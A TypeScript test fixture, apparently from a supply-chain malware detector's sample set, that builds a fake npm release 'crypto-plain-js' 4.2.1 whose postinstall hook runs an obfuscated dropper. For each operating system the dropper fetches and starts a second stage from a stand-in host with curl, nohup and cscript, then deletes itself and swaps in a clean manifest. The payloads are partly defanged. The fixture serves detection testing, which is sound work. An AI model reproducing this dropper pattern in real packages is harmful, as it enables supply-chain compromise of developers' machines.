import { Buffer } from "node:buffer";

import { defineAttack } from "../attack.ts";
import { smallLibrary } from "../bases.ts";
import { commonGuard } from "../guard.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const key = "OrDeR_7077";

/**
 * The dropper of plain-crypto-js 4.2.1 as it was built: texts reversed, in base64 and behind a cipher of its own; a script per system
 * that fetches and starts a second stage; then it deletes itself and puts a clean manifest in the place of its own.
 */
export const axiosDropper2026: Sample = defineAttack({
  id: "axios-dropper-2026",
  title: "A dropper for three systems that deletes itself and swaps its manifest",
  group: "new-name",
  trigger: "install",
  judged: [{ name: "crypto-plain-js", version: "4.2.1" }],
  now: "2026-03-31T00:05:00Z",
  createLines: () => [
    {
      name: "crypto-plain-js",
      files: smallLibrary("crypto-plain-js"),
      publisher: person("nrwise", "nrwise@proton.invalid"),
      releases: [
        ["4.2.0", "2026-03-30T05:57:00Z", { hasCommit: false }],
        [
          "4.2.1",
          "2026-03-30T23:59:12Z",
          {
            hasCommit: false,
            manifest: { scripts: { postinstall: "node setup.js" } },
            files: [
              { path: "setup.js", content: dropper },
              {
                path: "package.md",
                content: `${JSON.stringify({ name: "crypto-plain-js", version: "4.2.0", main: "index.js" }, null, 2)}\n`,
              },
            ],
          },
        ],
      ],
    },
  ],
});

/** The texts that the code asks for by number. */
const texts: readonly string[] = [
  "child_process",
  "os",
  "fs",
  "http://sfrclak.invalid:8000/",
  "win32",
  "darwin",
  'Set objShell = CreateObject("WScript.Shell")\nobjShell.Run "cmd.exe /c echo inert", 0, False\n',
  'cscript "LOCAL_PATH" //nologo && del "LOCAL_PATH" /f',
  'do shell script "curl -o /Library/Caches/com.example.inert -d packages.product0 -s SCR_LINK && chmod 770 /Library/Caches/com.example.inert; echo inert"',
  'nohup osascript "LOCAL_PATH" > /dev/null 2>&1 &',
  "curl -o /tmp/inert.py -d packages.product2 -s SCR_LINK && nohup python3 /tmp/inert.py SCR_LINK > /dev/null 2>&1 &",
  "package.json",
  "package.md",
  ".vbs",
];

function hide(text: string): string {
  const mixed = Array.from(
    Buffer.from(text),
    (byte, index) => byte ^ (Number(key[(7 * index * index) % 10]) || 0) ^ 13,
  );
  return Buffer.from(mixed).toString("base64").replaceAll("=", "_").split("").toReversed().join("");
}

const dropper = `${commonGuard.replaceAll("\n", " ")}const stq=[${texts.map((text) => JSON.stringify(hide(text))).join(",")}],ord="${key}",_trans_2=function(x,r){try{const E=r.split("").map(Number);return Buffer.from(Buffer.from(x.split("").reverse().join("").replaceAll("_","="),"base64").map((n,i)=>n^(E[7*i*i%10]||0)^13)).toString("utf8")}catch{}},_entry=function(x){try{if(!invited())return;const t=n=>_trans_2(stq[n],ord),r=require(t(2)),o=require(t(1)),{execSync:F}=require(t(0)),u=t(3)+x,a=o.platform();let e=u,l="",n=o.tmpdir();if(a===t(5)){const i=n+"/"+x;l=t(9).replaceAll("LOCAL_PATH",i);r.writeFileSync(i,t(8).replaceAll("SCR_LINK",e))}else if(a===t(4)){const i=n+"\\\\"+x+t(13);r.writeFileSync(i,t(6).replaceAll("SCR_LINK",e));l=t(7).replaceAll("LOCAL_PATH",i)}else l=t(10).replaceAll("SCR_LINK",e);F(l);const K=__filename;r.unlink(K,(x=>{})),r.unlink(t(11),(x=>{})),r.rename(t(12),t(11),(x=>{}))}catch{}};_entry("6202033");\n`;
